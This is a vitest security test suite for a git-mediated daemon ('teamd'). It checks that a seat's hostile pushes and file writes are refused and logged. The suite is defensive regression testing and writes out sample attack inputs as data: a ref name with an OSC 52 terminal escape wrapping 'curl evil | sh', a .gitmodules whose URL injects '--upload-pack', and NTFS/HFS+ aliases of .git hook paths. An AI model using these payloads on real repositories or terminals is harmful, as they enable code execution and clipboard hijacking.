import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { randomUUID } from "node:crypto";
import { ShimService } from "../../src/gen/teamd/v1/shim_pb.js";
import { createRpcClient } from "../../src/rpc/index.js";
import { appliedTeam } from "../support/applied-team.js";
import { ensureSeatUser } from "../support/seat-user.js";
import { srcWriterTeamFile } from "../support/team-file.js";
import { type TeamdHarness } from "../support/teamd-harness.js";

/**
 * Unknown means unknown (issue 20, findings 5 and 6), attacked from inside a real seat started
 * by `teamd start` through a real daemon, hub and ledger. Row proved (docs/enforcement.md):
 * "Unknown means unknown (§15; issue 20, findings 5 and 6's first and last items): a seat cannot
 * forge an unknown outcome — which blocks its target and tells the owner — with input git would
 * refuse". A push naming malformed refs and a file write of a path git refuses (an HFS+ or NTFS
 * alias of `.git`) are refused before any intent, each refusal recorded with its rule, with no
 * unknown outcome, no notice of one and no blocked branch. Before the fix the NTFS aliases and
 * the malformed refs were each an intent, an unknown outcome and a notice, and the HFS+ aliases
 * were written (§15, §3).
 *
 * Each attack has its control beside it: a well-formed push and a plain file write from the
 * same seat land; the checks are on the hub and the ledger, never only on what the seat was told.
 */
const asRoot = process.getuid?.() === 0;
if (asRoot) ensureSeatUser();

const TEAM_FILE = srcWriterTeamFile("w1");

interface LogRecord {
  seq: number;
  type: string;
  action: string;
  actor?: string;
  target?: string;
  result?: string;
  [key: string]: unknown;
}

/** Destinations git's check-ref-format refuses (each lands under seat/w1/, still refused), and two that collide with a ref that exists. */
const MALFORMED = [
  "refs/heads/a..b",
  "refs/heads/sp ace",
  "refs/heads/ti~lde",
  "refs/heads/ca^ret",
  "refs/heads/co:lon",
  "refs/heads/q?mark",
  "refs/heads/st*r",
  "refs/heads/br[acket",
  "refs/heads/back\\slash",
  "refs/heads/ctl\u0001x",
  "refs/heads/tab\tx",
  "refs/heads/del\u007fx",
  "refs/heads/end.",
  "refs/heads/.dot",
  "refs/heads/x.lock",
  "refs/heads/a.lock/b",
  "refs/heads/at@{1}",
  "refs/heads/dbl//slash",
  "refs/heads/seat/w1/",
  "refs/heads/seat/w1/.hidden",
  `refs/heads/${"x".repeat(300)}`,
  // seat/w1/ok/leaf exists (the control below pushes it first): neither its folder nor a ref under it can be made.
  "refs/heads/ok",
  "refs/heads/ok/leaf/deeper",
];

describe.runIf(process.platform === "linux")("unknown means unknown: a seat cannot forge unknown outcomes with input git refuses", () => {
  let h: TeamdHarness;

  const hubRefs = () => h.hubGit("for-each-ref", "--format=%(refname)").split("\n").filter(Boolean);
  const hubRef = (ref: string) => h.hubRef(ref);
  /** Records after `since`: the unknown outcomes, the notices, the refusals with each rule. */
  async function since(seq: number) {
    const log = (await h.records<LogRecord>()).filter((r) => r.seq > seq);
    return {
      log,
      intents: log.filter((r) => r.type === "intent"),
      unknown: log.filter((r) => r.type === "outcome" && r.result !== "done" && r.result !== "refused"),
      // Every notice but the owner's own `teamd exec` (each attack runs through one).
      notices: log.filter((r) => r.type === "notice" && r.action !== "seat.exec"),
      refusals: (rule: string) => log.filter((r) => r.type === "refusal" && JSON.stringify(r).includes(rule)),
    };
  }
  const lastSeq = async () => Math.max(0, ...(await h.records<LogRecord>()).map((r) => r.seq));

  beforeAll(async () => {
    h = await appliedTeam("teamd-unknown-outcomes-", TEAM_FILE, { "README.md": "hello\n", "src/a.txt": "a\n" });
    await h.ok(["start", "--team", "proj"]);
  }, 120_000);
  afterAll(async () => {
    await h?.cleanup();
  });

  it("one push naming many malformed refs is refused ref by ref before any intent: no unknown outcome, no notice, no blocked branch", async () => {
    // Control first: a well-formed push from the same seat lands (and makes seat/w1/ok/leaf, which two names below collide with).
    const control = await h.inSeat("w1", "echo ok > src/ok.txt && git add -A && git commit -qm ok && git push teamd HEAD:ok/leaf 2>&1");
    expect(control.code, control.stdout + control.stderr).toBe(0);
    const tip = (await h.inSeat("w1", "git rev-parse HEAD")).stdout.trim();
    expect(hubRef("refs/heads/seat/w1/ok/leaf")).toBe(tip);

    const before = hubRefs();
    const seq = await lastSeq();
    // The attack: git-remote-teamd spoken to by hand (git itself would not send these names), one push of every name.
    const protocol = ["list for-push", ...MALFORMED.map((ref) => `push HEAD:${ref}`), "", ""].join("\n");
    const attack = await h.inSeat("w1", `echo ${Buffer.from(protocol).toString("base64")} | base64 -d | git-remote-teamd teamd teamd::seat 2>&1`);
    const answers = attack.stdout.split("\n").filter((line) => line.startsWith("ok ") || line.startsWith("error "));
    expect(answers, attack.stdout + attack.stderr).toHaveLength(MALFORMED.length);
    for (const answer of answers) expect(answer, attack.stdout).toMatch(/^error .* teamd: git\.ref-name: /);

    expect(hubRefs()).toEqual(before);
    const after = await since(seq);
    expect(after.intents, JSON.stringify(after.intents)).toEqual([]);
    expect(after.unknown, JSON.stringify(after.unknown)).toEqual([]);
    expect(after.notices, JSON.stringify(after.notices)).toEqual([]);
    expect(after.refusals("git.ref-name")).toHaveLength(MALFORMED.length);

    // No branch is blocked: the seat's next push, to its existing branch and a new one, lands.
    const next = await h.inSeat(
      "w1",
      "echo next > src/next.txt && git add -A && git commit -qm next && git push teamd HEAD:ok/leaf 2>&1 && git push teamd HEAD:fresh 2>&1",
    );
    expect(next.code, next.stdout + next.stderr).toBe(0);
    const nextTip = (await h.inSeat("w1", "git rev-parse HEAD")).stdout.trim();
    expect(hubRef("refs/heads/seat/w1/ok/leaf")).toBe(nextTip);
    expect(hubRef("refs/heads/seat/w1/fresh")).toBe(nextTip);
  });

  it("two pushes of the seat racing to one new branch: one lands, the other is refused — never an unknown outcome", async () => {
    const seq = await lastSeq();
    const rounds = 4;
    const script = Array.from({ length: rounds }, (_, i) =>
      [
        `git checkout -q -B ra${i} $base && echo a${i} > src/ra${i}.txt && git add -A && git commit -qm ra${i}`,
        `git checkout -q -B rb${i} $base && echo b${i} > src/rb${i}.txt && git add -A && git commit -qm rb${i}`,
        `(git push teamd ra${i}:race${i} >/tmp/ra${i}.out 2>&1 & git push teamd rb${i}:race${i} >/tmp/rb${i}.out 2>&1 & wait)`,
      ].join(" && "),
    ).join(" && ");
    const raced = await h.inSeat(
      "w1",
      `base=$(git rev-parse HEAD) && back=$(git symbolic-ref -q --short HEAD) && ${script}; git checkout -q "$back"; cat /tmp/r[ab]*.out`,
    );
    expect(raced.code, raced.stdout + raced.stderr).toBe(0);
    for (let i = 0; i < rounds; i++) {
      const landed = hubRef(`refs/heads/seat/w1/race${i}`);
      expect(landed, raced.stdout).toBeDefined();
    }
    const after = await since(seq);
    expect(after.unknown, JSON.stringify(after.unknown)).toEqual([]);
    expect(after.notices, JSON.stringify(after.notices)).toEqual([]);
  });

  // Found by an outside attack: the seat's own pushes of x and x/y at once — git says "cannot be
  // made beside" in several ways, and the ones missed were unknown outcomes for refs that never
  // moved (3 in 4 minutes of racing). The proof that fails without the fix is in
  // test/effects/ref-lock.test.ts (a hundred real pairs); this is the seat's own attack.
  it("four pushes of the seat racing to x, x/y, x/z and x/w: refusals only, never an unknown outcome", async () => {
    const seq = await lastSeq();
    const rounds = 8;
    const script = Array.from(
      { length: rounds },
      (_, i) =>
        `(git push -q teamd HEAD:px${i} >/dev/null 2>&1 & git push -q teamd HEAD:px${i}/y >/dev/null 2>&1 & git push -q teamd HEAD:px${i}/z >/dev/null 2>&1 & git push -q teamd HEAD:px${i}/w >/dev/null 2>&1 & wait)`,
    ).join(" && ");
    const raced = await h.inSeat("w1", `${script}; echo raced`);
    expect(raced.stdout, raced.stderr).toContain("raced");
    const after = await since(seq);
    expect(after.unknown, JSON.stringify(after.unknown)).toEqual([]);
    expect(after.notices, JSON.stringify(after.notices)).toEqual([]);
    // Control: the race reached the hub — each round landed something.
    for (let i = 0; i < rounds; i++) expect(hubRefs().some((r) => r.startsWith(`refs/heads/seat/w1/px${i}`))).toBe(true);
  }, 180_000);

  // Found by an outside attack (issue 21's terminal injection): a refused destination is on
  // record as the seat sent it, and `teamd log` printed it raw — OSC 52 wrote the owner's
  // clipboard. The views now show every control character escaped.
  it("a refused ref name carrying terminal escapes is shown escaped by teamd log and never played to the owner's terminal", async () => {
    const evil = `refs/heads/x\u001b]52;c;${Buffer.from("curl evil | sh").toString("base64")}\u0007\u001b[2K\u009b1A`;
    const protocol = ["list for-push", `push HEAD:${evil}`, "", ""].join("\n");
    const attack = await h.inSeat("w1", `echo ${Buffer.from(protocol).toString("base64")} | base64 -d | git-remote-teamd teamd teamd::seat 2>&1`);
    expect(attack.stdout, attack.stderr).toMatch(/git\.ref-name/);
    // Control: the record holds the name as the seat sent it (the attack reached the owner's view).
    const records = await h.records<LogRecord>();
    expect(records.some((r) => r.type === "refusal" && (r.target ?? "").includes("\u001b]52;c;"))).toBe(true);
    const shown = await h.ok(["log"]);
    expect(shown).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(shown).toContain("\\x1b]52;c;");
    expect(shown).toContain("\\x9b1A");
    const json = await h.ok(["log", "--json"]);
    expect(json).not.toMatch(/[\u007f-\u009f]/);
  });

  // A push may send no pack at all (a client speaking to the seat socket itself): its new tip
  // must then be a commit the seat was served — reachable from one of its readable tips, judged
  // in one walk for every tip (it was one merge-base process per tip: found by an audit).
  it("a push sending no pack lands a commit reachable from a tip the seat reads, and refuses one no tip reaches", async () => {
    const made = await h.inSeat(
      "w1",
      [
        "back=$(git symbolic-ref -q --short HEAD)",
        "git checkout -q -B anc && echo x > src/anc.txt && git add -A && git commit -qm x && x=$(git rev-parse HEAD)",
        "echo y > src/anc2.txt && git add -A && git commit -qm y && y=$(git rev-parse HEAD)",
        "echo z > src/anc3.txt && git add -A && git commit -qm z && z=$(git rev-parse HEAD)",
        // y reaches the hub on a branch; z reaches it on one that is then deleted (its commit stays, reached by no tip).
        "git push -q teamd $y:refs/heads/anc-y 2>&1 && git push -q teamd $z:refs/heads/anc-z 2>&1 && git push -q teamd --delete refs/heads/anc-z 2>&1",
        'git checkout -q "$back"; echo x=$x z=$z',
      ].join(" && "),
    );
    expect(made.code, made.stdout + made.stderr).toBe(0);
    const x = /x=([0-9a-f]{40})/.exec(made.stdout)?.[1] as string;
    const z = /z=([0-9a-f]{40})/.exec(made.stdout)?.[1] as string;
    expect(h.hubGit("cat-file", "-t", z)).toBe("commit");
    const client = createRpcClient(ShimService, h.seatSocket("w1"));
    try {
      const push = async (ref: string, newOid: string) => {
        async function* parts() {
          yield { part: { case: "header" as const, value: { requestId: randomUUID(), updates: [{ ref, oldOid: "", newOid, force: false }], packBytes: 0n } } };
        }
        return (await client.push(parts())).results[0];
      };
      expect(await push("refs/heads/anc-x", x)).toMatchObject({ ok: true });
      expect(hubRef("refs/heads/seat/w1/anc-x")).toBe(x);
      // Control: a commit the hub holds that no readable tip reaches is refused.
      expect(await push("refs/heads/anc-z2", z)).toMatchObject({ ok: false, rule: "push.pack" });
      expect(hubRef("refs/heads/seat/w1/anc-z2")).toBeUndefined();
    } finally {
      client.close();
    }
  });

  // Found by an audit: two of the seat's own file writes to one branch, a file and a file under
  // it, both passed the shape check on the same tree; the second then read the branch the first
  // had moved and git's index refused it inside the effect — an unknown outcome, a notice, a
  // blocked branch, as often as the seat liked. The check's commit is now the write's parent.
  it("two file writes of the seat racing on one branch, a file and a file under it: one lands, the other is refused — never an unknown outcome", async () => {
    const seq = await lastSeq();
    const rounds = 6;
    const script = Array.from(
      { length: rounds },
      (_, i) =>
        `(printf a | teamd-shim file write src/fr${i} --branch frace${i} >/tmp/fa${i}.out 2>&1 & printf b | teamd-shim file write src/fr${i}/b --branch frace${i} >/tmp/fb${i}.out 2>&1 & wait)`,
    ).join(" && ");
    const raced = await h.sh("w1", `${script}; cat /tmp/f[ab]*.out`);
    expect(raced.code, raced.stdout + raced.stderr).toBe(0);
    for (let i = 0; i < rounds; i++) expect(hubRef(`refs/heads/seat/w1/frace${i}`), raced.stdout).toBeDefined();
    const after = await since(seq);
    expect(after.unknown, JSON.stringify(after.unknown) + raced.stdout).toEqual([]);
    expect(after.notices, JSON.stringify(after.notices)).toEqual([]);
  });

  // A file write makes its blob and tree without index-pack, so fsck never judged them: a
  // .gitmodules with an option-shaped URL (the submodule attacks' way in) reached the hub.
  it("a file write of a .gitmodules (or an alias) is refused before any intent; the same file pushed meets git's fsck", async () => {
    const evil = '[submodule "x"]\\n\\tpath = x\\n\\turl = --upload-pack=touch${IFS}/tmp/pwned\\n';
    const seq = await lastSeq();
    for (const path of ["src/.gitmodules", "src/GITMOD~1"]) {
      const written = await h.sh("w1", `printf '${evil}' | teamd-shim file write '${path}' --branch modules`);
      expect(written.code, written.stdout + written.stderr).toBe(3);
      expect(written.stdout + written.stderr).toMatch(/git\.path/);
    }
    expect(hubRef("refs/heads/seat/w1/modules")).toBeUndefined();
    const after = await since(seq);
    expect(after.intents, JSON.stringify(after.intents)).toEqual([]);
    expect(after.refusals("git.path")).toHaveLength(2);
    // Control: the content is what fsck refuses — pushed, it does not land either.
    const pushed = await h.inSeat(
      "w1",
      `back=$(git symbolic-ref -q --short HEAD) && git checkout -q -B gm && printf '${evil}' > src/.gitmodules && git add src/.gitmodules && git commit -qm gm && git push teamd gm:gm; code=$?; git checkout -q "$back"; exit $code`,
    );
    expect(pushed.code, pushed.stdout + pushed.stderr).not.toBe(0);
    expect(pushed.stdout + pushed.stderr).toMatch(/gitmodules/i);
    expect(hubRef("refs/heads/seat/w1/gm")).toBeUndefined();
  });

  /** `.git` as HFS+ and NTFS see it, inside the seat's write scope; and other paths git's verify_path refuses. */
  const ALIASES = [
    "src/.g\u200cit/config",
    "src/\ufeff.GIT/hooks/post-checkout",
    "src/git~1/config",
    "src/.git./config",
    "src/.git::$INDEX_ALLOCATION/config",
    "src/.gIt /config",
  ];

  it.each(ALIASES)("a file write of %j, an alias of .git, is refused before any intent", async (path) => {
    const seq = await lastSeq();
    const before = hubRefs();
    const written = await h.sh(
      "w1",
      `printf 'evil' | teamd-shim file write "$(printf '%s' ${JSON.stringify(Buffer.from(path).toString("base64"))} | base64 -d)" --branch aliases`,
    );
    expect(written.code, written.stdout + written.stderr).toBe(3);
    expect(written.stdout + written.stderr).toMatch(/git\.path/);
    expect(hubRefs()).toEqual(before);
    expect(hubRef("refs/heads/seat/w1/aliases")).toBeUndefined();
    const after = await since(seq);
    expect(after.intents, JSON.stringify(after.intents)).toEqual([]);
    expect(after.unknown, JSON.stringify(after.unknown)).toEqual([]);
    expect(after.notices, JSON.stringify(after.notices)).toEqual([]);
    expect(after.refusals("git.path")).toHaveLength(1);
  });

  it("a file write naming a branch git refuses, or a message git cannot take, is refused before any intent", async () => {
    const seq = await lastSeq();
    const badBranch = await h.sh("w1", "printf 'x' | teamd-shim file write src/b.txt --branch 'a..b'");
    expect(badBranch.code, badBranch.stdout + badBranch.stderr).toBe(3);
    expect(badBranch.stdout + badBranch.stderr).toMatch(/git\.ref-name/);
    const collides = await h.sh("w1", "printf 'x' | teamd-shim file write src/b.txt --branch ok");
    expect(collides.code, collides.stdout + collides.stderr).toBe(3);
    expect(collides.stdout + collides.stderr).toMatch(/git\.ref-name/);
    const after = await since(seq);
    expect(after.intents, JSON.stringify(after.intents)).toEqual([]);
    expect(after.unknown, JSON.stringify(after.unknown)).toEqual([]);
    expect(after.notices, JSON.stringify(after.notices)).toEqual([]);
  });

  // Found by an outside attack on this suite: a file write under a path that is a file (on the
  // trunk, for a branch the seat has not made yet, or on its own branch) reached git's index
  // inside the effect, which refused it — recorded unknown, a notice, the branch blocked, as
  // often as the seat liked.
  it.each([
    ["under a file of the trunk, on a new branch", "src/a.txt/x", "shape-new"],
    ["under a file of the seat's own branch", "src/own.txt/y", "shape-own"],
  ])("a file write %s is refused before any intent (git.path): no unknown outcome, no notice", async (_name, path, branch) => {
    if (branch === "shape-own") {
      const made = await h.sh("w1", `printf 'own' | teamd-shim file write src/own.txt --branch ${branch}`);
      expect(made.code, made.stdout + made.stderr).toBe(0);
    }
    const seq = await lastSeq();
    const tip = hubRef(`refs/heads/seat/w1/${branch}`);
    const written = await h.sh("w1", `printf 'x' | teamd-shim file write ${path} --branch ${branch}`);
    expect(written.code, written.stdout + written.stderr).toBe(3);
    expect(written.stdout + written.stderr).toMatch(/git\.path/);
    expect(hubRef(`refs/heads/seat/w1/${branch}`)).toBe(tip);
    const after = await since(seq);
    expect(after.intents, JSON.stringify(after.intents)).toEqual([]);
    expect(after.unknown, JSON.stringify(after.unknown)).toEqual([]);
    expect(after.notices, JSON.stringify(after.notices)).toEqual([]);
    expect(after.refusals("git.path")).toHaveLength(1);
    // Control: the branch is not blocked — a plain path beside it is written.
    const beside = await h.sh("w1", `printf 'ok' | teamd-shim file write src/beside-${branch}.txt --branch ${branch}`);
    expect(beside.code, beside.stdout + beside.stderr).toBe(0);
  });

  // Found by an audit: a path is handed to git as a pathspec, and `:(glob)x` made ls-tree exit
  // 128 inside a file read — an unrecorded internal error, its stack (and the path) in the
  // daemon's log, as often as the seat liked. Every path is now literal (GIT_LITERAL_PATHSPECS).
  it.each([[":(glob)src/*"], [":(top)src/a.txt"], [":!src/a.txt"]])(
    "a file read of the pathspec %s names a file of that name: refused file.kind, on record",
    async (path) => {
      const seq = await lastSeq();
      const read = await h.sh("w1", `teamd-shim file read '${path}'`);
      expect(read.code, read.stdout + read.stderr).toBe(3);
      expect(read.stdout + read.stderr).toMatch(/file\.kind/);
      expect((await since(seq)).refusals("file.kind")).toHaveLength(1);
    },
  );

  it("control: a plain path in the write scope is written, on the same branch the aliases aimed at", async () => {
    const written = await h.sh("w1", "printf 'plain' | teamd-shim file write src/.gitx/plain.txt --branch aliases --json");
    expect(written.code, written.stdout + written.stderr).toBe(0);
    const commit = (JSON.parse(written.stdout) as { commit: string }).commit;
    expect(hubRef("refs/heads/seat/w1/aliases")).toBe(commit);
    expect(h.hubGit("show", `${commit}:src/.gitx/plain.txt`)).toBe("plain");
  });
});
